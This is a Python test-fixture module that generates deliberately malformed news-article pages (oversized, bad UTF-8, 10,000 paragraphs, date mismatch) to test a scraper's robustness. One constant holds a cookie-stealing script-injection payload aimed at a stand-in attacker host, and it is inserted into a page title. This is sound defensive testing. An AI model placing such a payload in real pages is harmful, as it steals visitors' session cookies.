"""Hostile article pages (`--hostile`), for reliability tests. They are listed like any
other article on the corpus's first day (23:30–23:34 KST), in the default "yna-cms" template
(full head, CONTENT_DATA; no photos, byline, note, e-mail or tags).

- huge: a ~20 MB page (valid markup, one paragraph repeated)
- bad_utf8: invalid UTF-8 byte sequences inside a paragraph (truth: decoded with U+FFFD)
- script_title: a <script> element injected inside the title (truth: the title without it)
- many_paragraphs: a 10,000-paragraph body
- date_mismatch: the page's date is 400 days before the date carried by its id
  (truth.published_at is the page's date; variations["id_date"] is the id's)
"""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from devtools.replica import markup
from devtools.replica import text as T
from devtools.replica.truth import ArticleTruth, derive

HUGE_BYTES = 20 * 1024 * 1024
MANY = 10_000
SCRIPT = "<script>document.location='http://attacker.invalid/?c='+document.cookie</script>"
BAD_BYTES = b"\xff\xfe\xc3(\xe2\x82"  # invalid start bytes, a broken 2-byte and a cut 3-byte seq
_BAD_MARK = "\u2063BADBYTES\u2063"
_SCRIPT_MARK = "\u2063SCRIPT\u2063"


def hostile_truth(corpus, entry, article_id: str):
    kind = entry.hostile
    pub = entry.pub
    if kind == "date_mismatch":
        pub = pub - timedelta(days=400)
    W = corpus.words
    rng = T.FastRandom(hash_seed(corpus, article_id))
    topic = W.Topic(rng, W.HOSTILE_SECTION, pub.date())
    dl = W.dateline("SEOUL", pub.date())
    lead = topic.lead_sentence(rng)
    paragraphs = [f"{dl} -- {lead}", *(topic.paragraph(rng) for _ in range(3))]
    title = W.HOSTILE_TITLES[kind]
    if kind == "huge":
        filler = topic.paragraph(rng, 6)
        paragraphs += [filler] * (HUGE_BYTES // (len(filler.encode()) + 8) + 1)
    elif kind == "many_paragraphs":
        paragraphs += [W.MANY_PARAGRAPH.format(i=i, keyword=topic.keyword)
                       for i in range(1, MANY - len(paragraphs) + 1)]
    elif kind == "bad_utf8":
        paragraphs[1] = f"{paragraphs[1]} {_BAD_MARK} {W.BAD_UTF8_TAIL}"
    variations = {"list_lead": False, "tracking": None, "entities": "plain", "n_photos": 0,
                  "photo_after": [0, 0, 0], "cf_key": 1, "related": 0, "email_form": "cf",
                  "section_path": True, "show_update": True, "trailing_br": False,
                  "tit_cap": [False] * 3, "author_ko": "연합", "end_marker": W.EDITION.end_marker,
                  "edited": False, "id_date": entry.pub.date().isoformat()}
    truth = ArticleTruth(
        article_id=article_id, url=f"{corpus.config.canonical_base}/view/{article_id}", title=title,
        title_raw=title, version_label=None, section=W.HOSTILE_SECTION, published_at=pub, updated_at=None,
        dateline=dl, paragraphs=paragraphs, lead=paragraphs[0].split(" -- ", 1)[1], images=[], author_email=None,
        story_id=article_id, duplicate_of=None, is_routine=False, has_edit=False, kind="hostile",
        hostile=kind, variations=variations,
    )
    if kind == "bad_utf8":
        decoded = BAD_BYTES.decode("utf-8", errors="replace")
        truth.paragraphs = [p.replace(_BAD_MARK, decoded) for p in paragraphs]
    return truth


def hash_seed(corpus, article_id: str) -> int:
    return derive(corpus.config.seed, "hostile", article_id)


def hostile_page(corpus, truth) -> bytes:
    kind = truth.hostile
    if kind == "bad_utf8":
        raw = replace(truth, paragraphs=[p.replace(BAD_BYTES.decode("utf-8", errors="replace"), _BAD_MARK)
                                         for p in truth.paragraphs])
        return markup.yna_cms_article(corpus, raw).encode("utf-8").replace(
            _BAD_MARK.encode("utf-8"), BAD_BYTES)
    if kind == "script_title":
        raw = replace(truth, title_raw=corpus.words.HOSTILE_SCRIPT_TITLE.format(mark=_SCRIPT_MARK))
        html = markup.yna_cms_article(corpus, raw)
        # the element goes into h1.tit only (head meta and CONTENT_DATA keep the clean title)
        before, after = html.split('<header class="title-article01">', 1)
        after = after.replace(_SCRIPT_MARK, SCRIPT, 1).replace(_SCRIPT_MARK, "")
        return (before.replace(_SCRIPT_MARK, "") + '<header class="title-article01">'
                + after).encode("utf-8")
    return markup.yna_cms_article(corpus, truth).encode("utf-8")
